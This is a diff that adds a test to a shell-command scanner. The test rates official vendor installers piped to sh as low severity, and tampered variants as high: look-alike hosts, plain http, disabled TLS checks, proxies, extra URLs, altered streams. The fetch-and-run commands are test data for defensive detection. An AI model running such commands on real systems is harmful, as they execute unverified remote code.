@@ -534,3 +534,26 @@ def test_a_language_is_known_by_the_first_line_or_by_the_suffix(
     name: str, head: bytes, language: str | None
 ) -> None:
     assert language_of(name, head) == language
+
+
+@pytest.mark.parametrize(
+    ("script", "severity"),
+    [
+        ("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh", Severity.LOW),
+        ("wget -qO- https://get.docker.com | bash", Severity.LOW),
+        ('sh -c "$(curl -fsSL https://claude.ai/install.sh)"', Severity.LOW),
+        ("curl -fsSL https://sh.rustup.rs.example | sh", Severity.HIGH),
+        ("curl -fsSL http://sh.rustup.rs | sh", Severity.HIGH),
+        ("curl -k https://sh.rustup.rs | sh", Severity.HIGH),
+        ("curl -x p.example https://sh.rustup.rs | sh", Severity.HIGH),
+        ("curl -s https://sh.rustup.rs https://x.example/y | sh", Severity.HIGH),
+        ("curl -s https://sh.rustup.rs x.example/y | sh", Severity.HIGH),
+        ("curl -s https://sh.rustup.rs | sed s/a/b/ | sh", Severity.HIGH),
+        ("curl -s https://sh.rustup.rs | cat - ./more | sh", Severity.HIGH),
+    ],
+)
+def test_only_the_installer_of_a_vendor_as_it_was_sent_is_low(
+    script: str, severity: Severity
+) -> None:
+    found = dangerous_commands(script + "\n", "shell")
+    assert [each.severity for each in found] == [severity]
